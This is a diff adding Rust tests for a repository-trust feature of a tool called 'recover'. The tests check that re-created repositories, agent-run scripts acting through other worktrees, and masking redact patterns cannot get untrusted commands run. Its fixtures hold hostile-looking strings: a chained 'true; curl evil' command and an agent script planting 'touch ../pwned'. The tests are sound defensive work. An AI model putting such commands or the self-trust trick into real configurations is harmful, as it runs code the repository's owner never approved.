@@ -334,3 +334,70 @@ fn who_writes_the_configuration_trusts_it() {
     env.recover(&["run", "--run", "s", "--trust", "--", "sh", "-c", &line]).expect(0);
     assert_eq!(env.error(13, &["run", "--run", "t", "--", "true"])["code"], "not_trusted");
 }
+
+/// Something else at the same path is something else, whatever its file says.
+#[test]
+fn another_repository_at_the_same_path_is_not_trusted() {
+    let env = clone();
+    env.recover(&["trust"]).expect(0);
+    env.json(0, &["run", "--run", "r", "--", "true"]);
+    env.sh("rm -rf .git .ultraplan && git init -q -b main && git commit -q --allow-empty -m first").expect(0);
+    env.put(FILE, CHECK);
+    assert_eq!(env.error(13, &["run", "--run", "r", "--", "true"])["code"], "not_trusted");
+    // The one that is there has its own word, and its work trees share it.
+    env.recover(&["trust"]).expect(0);
+    env.json(0, &["run", "--run", "r", "--", "true"]);
+    env.git(&["worktree", "add", "-q", "../linked"]);
+    env.sh(&format!("mkdir -p ../linked/.ultraplan && cp {FILE} ../linked/{FILE}")).expect(0);
+    env.json(0, &["-C", "../linked", "run", "--run", "s", "--", "true"]);
+}
+
+/// Trust is the repository's: no other state directory and no other work tree makes it an agent's to give.
+#[test]
+fn no_agent_trusts_by_way_of_another_place() {
+    let env = TestEnv::repo();
+    let recover = env!("CARGO_BIN_EXE_recover");
+    env.script(
+        "agent.sh",
+        &format!(
+            "git worktree add -q ../w; mkdir -p .ultraplan ../w/.ultraplan\n\
+             printf \"[[feedback]]\\nname = 'test'\\ncommand = 'touch ../pwned'\\n\" > ../w/{FILE}\n\
+             cp ../w/{FILE} {FILE}; cd ../w; {recover} --state-dir ../s trust; echo $? > ../code"
+        ),
+    );
+    env.recover(&["run", "--run", "r", "--no-wait", "--", "./agent.sh"]);
+    assert_eq!(env.read("../code"), "11\n");
+    assert_eq!(env.error(13, &["run", "--run", "next", "--", "true"])["code"], "not_trusted");
+    assert!(!env.root().join("pwned").exists());
+}
+
+/// What a stranger's file has masked is seen by who is asked about it.
+#[test]
+fn a_strangers_redact_hides_nothing_of_what_is_asked() {
+    let env = TestEnv::repo();
+    let hides = "[redact]\npatterns = ['(; curl .*)']\n[[feedback]]\nname = 'test'\ncommand = 'true; curl evil'\n";
+    env.put(FILE, hides);
+    let message = env.error(13, &["run", "--", "true"])["message"].to_string();
+    assert!(message.contains("true; curl evil"), "{message}");
+    let shown = env.recover(&["trust", "--dry-run"]).expect(0).stdout;
+    assert!(shown.contains("true; curl evil") && shown.contains("redact"), "{shown}");
+    assert!(env.json(0, &["trust", "--dry-run"]).to_string().contains("true; curl evil"));
+    // It stops nobody who starts nothing of the file.
+    env.put(FILE, "[redact]\npatterns = ['hidden']\n");
+    env.json(0, &["run", "--run", "r", "--", "true"]);
+}
+
+/// A record that a newer version wrote is left as it is.
+#[test]
+fn a_newer_record_of_trust_is_not_overwritten() {
+    let env = clone();
+    env.recover(&["trust"]).expect(0);
+    let list = env.sh("find .. -path '*recover/trust/*.json'").stdout;
+    let file = env.work().join(list.trim());
+    let newer = fs::read_to_string(&file).expect("the record").replace("\"schema\": 1", "\"schema\": 99");
+    fs::write(&file, &newer).expect("written");
+    env.put(FILE, CHECK.replace("echo", "printf"));
+    let ran = env.recover(&["trust"]);
+    assert_ne!(ran.code, 0, "{ran:?}");
+    assert_eq!(fs::read_to_string(&file).expect("the record"), newer);
+}
